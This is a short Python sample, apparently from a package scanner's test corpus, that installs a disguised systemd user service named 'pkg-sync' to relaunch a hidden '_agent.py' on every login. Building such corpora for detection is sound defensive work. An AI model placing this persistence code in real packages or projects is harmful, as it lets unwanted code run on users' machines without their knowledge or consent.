# pkgguard corpus 263 (persistence), modelled on [linux-persistence]; inert, never run.
import subprocess
import sys
from pathlib import Path

unit_dir = Path.home().joinpath(".config", "systemd", "user")
unit_dir.mkdir(parents=True, exist_ok=True)
agent = Path(__file__).with_name("_agent.py")
(unit_dir / "pkg-sync.service").write_text(
    f"[Unit]\nDescription=sync\n[Service]\nExecStart={sys.executable} {agent}\nRestart=always\n"
    "[Install]\nWantedBy=default.target\n"
)
subprocess.run(["systemctl", "--user", "enable", "--now", "pkg-sync.service"], check=False)
